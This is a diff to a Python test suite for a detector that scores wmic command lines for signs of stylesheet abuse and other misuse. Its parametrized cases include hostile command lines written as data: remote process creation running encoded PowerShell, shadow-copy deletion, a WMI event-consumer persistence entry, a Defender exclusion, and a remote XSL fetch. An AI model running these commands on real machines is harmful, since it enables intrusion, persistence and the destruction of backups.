@@ -41,6 +41,11 @@ def test_built_in_keyword_in_any_case_is_benign(keyword: str) -> None:
         'htable:"sortby=Name"',
         'htable:"sortby=Name":"datatype=number"',
         "csv /every:5",
+        f'"{WBEM}en-US\\csv"'.replace("\\", "\\\\"),
+        '"%WINDIR%\\System32\\wbem\\en-US\\csv"',
+        '"%%windir%%\\System32\\wbem\\csv"',
+        "%SystemRoot%\\system32\\wbem\\texttable.xsl",
+        "%SystemDrive%\\Windows\\system32\\wbem\\texttable.xsl",
     ],
 )
 def test_stylesheet_that_windows_brings_is_benign(value: str) -> None:
@@ -108,17 +113,25 @@ def test_stylesheet_from_elsewhere_on_the_machine_is_suspicious(value: str) -> N
     [
         (None, "no command line"),
         ("   ", "no command line"),
-        ("wmic os get", "no format switch"),
-        ("wmic path Win32_PerfFormattedData_PerfOS_System get Processes", "no format switch"),
+        ("wmic", "from elsewhere"),
+        ("notepad.exe", "does not start wmic"),
+        ("wmic os get %x%", "could not be read"),
+        ("wmic os get /fo:csv", "could not be read"),
+        ("wmic os where (a=1 call create x", "could not be read"),
+        ("wmic process where name='a' get name\" call create x", "could not be read"),
+        ("wmic SHADOWCOPY /nointeractive", "could not be read"),
+        ("wmic /node:WS01 os get", "other machines"),
+        ("wmic /node:@hosts.txt os get", "other machines"),
+        ("cmd /c wmic os get", "could not be read"),
+        ("wmic product where name='a' call uninstall", "changes something"),
+        ("wmic os get x call create y /format:csv", "may change something"),
+        ("wmic computersystem set a=b /format:csv", "changes something"),
         ("wmic qfe list /format", "no value"),
         ("wmic os get /format:", "no value"),
         ('wmic os get /format:""', "no value"),
-        ('wmic os get /format:"http', "cut off"),
         ('wmic os get /format:"C:\\Users', "cut off"),
         ("wmic os get /format:csv...", "cut off"),
         (f"wmic os get {'a,' * 600}b /format:csv", "cut off"),
-        ('wmic os get /format:"%WINDIR%\\System32\\wbem\\en-US\\csv"', "%WINDIR%"),
-        ('wmic os get /format:"%%windir%%\\System32\\wbem\\csv"', "%%windir%%"),
         ("wmic os get /format:c^sv", "carets"),
         ('cmd /c "wmic os get /format:csv"', "quoted text"),
     ],
@@ -145,10 +158,80 @@ def test_line_around_a_built_in_format_is_never_judged(cmdline: str) -> None:
     assert assess_line(cmdline).assessment == BENIGN
 
 
+@pytest.mark.parametrize(
+    "cmdline",
+    [
+        "wmic os get",
+        "wmic path Win32_PerfFormattedData_PerfOS_System get Processes",
+        "wmic path Win32_PerfFormattedData_PerfProc_Process WHERE IDProcess=4 get A, B",
+        "WMIC.exe process where \"name like '%format%'\" list brief",
+        "wmic timezone",
+        "wmic /output:format.txt /node:localhost useraccount list full",
+        "wmic /namespace:\\\\root\\cimv2 path win32_tpm get *",
+        "wmic /?",
+    ],
+)
+def test_line_that_names_no_stylesheet_and_only_reads_is_benign(cmdline: str) -> None:
+    judged = assess_line(cmdline)
+    assert judged.assessment == BENIGN
+    assert "no format switch" in judged.summary
+
+
+@pytest.mark.parametrize("beginning", ["http", "https", "HTTP"])
+def test_line_cut_off_where_an_address_begins_is_suspicious(beginning: str) -> None:
+    judged = assess_line(f'WMIC.exe os get /format:"{beginning}')
+    assert judged.assessment == SUSPICIOUS
+    assert "cut off" in judged.summary
+
+
+@pytest.mark.parametrize(
+    ("cmdline", "least"),
+    [
+        ('wmic process call create "C:\\Tools\\a.exe"', SUSPICIOUS),
+        ("wmic process call create calc /format:csv", SUSPICIOUS),
+        ('wmic /node:WS02 process call create "cmd /c whoami"', SUSPICIOUS),
+        ('wmic /node:WS02 process call create "powershell -enc AAAA"', MALICIOUS),
+        ("wmic shadowcopy delete /nointeractive", SUSPICIOUS),
+        (
+            'wmic /namespace:"\\\\root\\subscription" PATH ActiveScriptEventConsumer CREATE Name=a',
+            SUSPICIOUS,
+        ),
+        (
+            "wmic /namespace:\\\\root\\Microsoft\\Windows\\Defender class MSFT_MpPreference"
+            " call Add ExclusionPath=C:\\a",
+            SUSPICIOUS,
+        ),
+        ('wmic os get /fo:"http://192.0.2.50/a.xsl"', SUSPICIOUS),
+    ],
+)
+def test_line_that_changes_something_grave_is_judged_by_that(
+    cmdline: str, least: AssessmentKind
+) -> None:
+    assert assess_line(cmdline).assessment == least
+
+
+@pytest.mark.parametrize(
+    ("value", "score"),
+    [
+        ("evil.xsl", 60),
+        ("table.xsl", 70),
+        ('"C:\\Program Files\\App\\a.xsl"', 50),
+        ('"C:\\Users\\a\\a.xsl"', 70),
+        ('"C:\\Users\\Public\\a.xsl"', 80),
+        ('"%TEMP%\\a.xsl"', 80),
+        ('"C:\\Users\\Public\\holiday.jpg"', 95),
+        (f'"{WBEM}en-US\\..\\..\\x\\csv"', 100),
+        ('"%WINDIR%\\System32\\wbem\\csv"', 10),
+    ],
+)
+def test_place_and_name_of_a_file_weigh(value: str, score: int) -> None:
+    assert assess_line(f"wmic os get /format:{value}").score == score
+
+
 def test_switches_that_disagree_give_the_worst() -> None:
     judged = assess_line("wmic os get /format:csv /format:evil.xsl /format:http://192.0.2.50/a")
     assert judged.assessment == MALICIOUS
-    assert [reason.weight for reason in judged.reasons] == [90, 60, -40]
+    assert [reason.weight for reason in judged.reasons] == [50, 20, 0]
     assert "192.0.2.50" in judged.summary
 
 
